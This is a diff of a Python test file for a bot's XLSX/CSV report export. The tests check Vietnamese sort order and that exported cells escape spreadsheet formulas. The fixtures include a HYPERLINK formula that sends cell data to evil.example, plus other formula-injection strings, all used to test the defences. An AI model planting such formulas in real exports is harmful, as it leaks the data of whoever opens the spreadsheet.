@@ -13,16 +13,16 @@ from openpyxl import load_workbook
 
 from bot.admin.export import export
 from bot.collation import sort_key
-from bot.services import Services, need
+from bot.core import Core
 from tests.helpers import TZ, at
 from tests.test_reminders_support import person
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&D2&E2,"Xem chi tiết")'
 
 
-async def _submit(services: Services, unit_id: str, submitter: str, answers: dict[str, object],
+async def _submit(core: Core, unit_id: str, submitter: str, answers: dict[str, object],
                   n: int, report_type: str = "interim", scope: str | None = None) -> None:
-    await services.db.execute(
+    await core.db.execute(
         "INSERT INTO submissions (receipt, report_type, period, scope_key, version, unit_id,"
         " submitter_name, answers, submitted_at, on_time) VALUES (?, ?, '2027', ?, 1, ?, ?, ?,"
         " ?, 1)",
@@ -30,20 +30,20 @@ async def _submit(services: Services, unit_id: str, submitter: str, answers: dic
          json.dumps(answers, ensure_ascii=False), at("2027-05-20 09:00").isoformat()))
 
 
-async def _three_reports(services: Services) -> None:
+async def _three_reports(core: Core) -> None:
     answers = {"staff_total": 52, "participants": 50, "campaigns": "=1+2",
                "highlights": "@SUM(A1)", "difficulties": "-2+3", "proposals": "\tx"}
-    await _submit(services, "TH-LEQUYDON", "Lê Thị Hoa", answers, 1)
-    await _submit(services, "TH-DAMSEN", EVIL_NAME, answers, 2)
-    await _submit(services, "TH-LACLONGQUAN", "+Tuấn", answers, 3)
+    await _submit(core, "TH-LEQUYDON", "Lê Thị Hoa", answers, 1)
+    await _submit(core, "TH-DAMSEN", EVIL_NAME, answers, 2)
+    await _submit(core, "TH-LACLONGQUAN", "+Tuấn", answers, 3)
 
 
 async def test_xlsx_texts_stay_texts_and_units_are_in_vietnamese_order(
-        services: Services, tmp_path: Path) -> None:
-    await _three_reports(services)
-    await person(services, "hung", "MN-HOASEN")  # a leader of a unit that has not sent
-    registry = need(services.report_types, "report types")
-    result = await export(services.db, registry, tmp_path, tz=TZ, period="2027")
+        core: Core, tmp_path: Path) -> None:
+    await _three_reports(core)
+    await person(core, "hung", "MN-HOASEN")  # a leader of a unit that has not sent
+    registry = core.report_types
+    result = await export(core.db, registry, tmp_path, tz=TZ, period="2027")
     wb = load_workbook(result.path)
     assert wb.sheetnames[0] == "Mục lục" and "Chưa nộp" in wb.sheetnames
     for name in wb.sheetnames:  # whole words: a title that does not fit gets a code
@@ -80,11 +80,11 @@ async def test_xlsx_texts_stay_texts_and_units_are_in_vietnamese_order(
     assert names.index("Trường THCS Lê Quý Đôn") > names.index("Trường THCS Lê Anh Xuân")
 
 
-async def test_csv_escapes_what_a_spreadsheet_would_run(services: Services,
+async def test_csv_escapes_what_a_spreadsheet_would_run(core: Core,
                                                         tmp_path: Path) -> None:
-    await _three_reports(services)
-    registry = need(services.report_types, "report types")
-    result = await export(services.db, registry, tmp_path, tz=TZ, report_type="interim",
+    await _three_reports(core)
+    registry = core.report_types
+    result = await export(core.db, registry, tmp_path, tz=TZ, report_type="interim",
                           period="2027", fmt="csv")
     with result.path.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.DictReader(fh))
@@ -99,13 +99,13 @@ async def test_csv_escapes_what_a_spreadsheet_would_run(services: Services,
     assert rows[2]["Người nộp"] == "Lê Thị Hoa"
 
 
-async def test_people_sort_in_vietnamese_order_within_a_unit(services: Services,
+async def test_people_sort_in_vietnamese_order_within_a_unit(core: Core,
                                                              tmp_path: Path) -> None:
     for n, name in enumerate(["Lê Văn An", "Đỗ Thị Bình", "Lạc Thị Cúc", "Dương Văn Dũng"]):
-        await _submit(services, "TH-KIMDONG", name, {}, n + 1, "title_individual",
+        await _submit(core, "TH-KIMDONG", name, {}, n + 1, "title_individual",
                       f"user:{n}")
-    registry = need(services.report_types, "report types")
-    result = await export(services.db, registry, tmp_path, tz=TZ,
+    registry = core.report_types
+    result = await export(core.db, registry, tmp_path, tz=TZ,
                           report_type="title_individual", period="2027")
     wb = load_workbook(result.path)
     ws = wb[wb.sheetnames[1]]
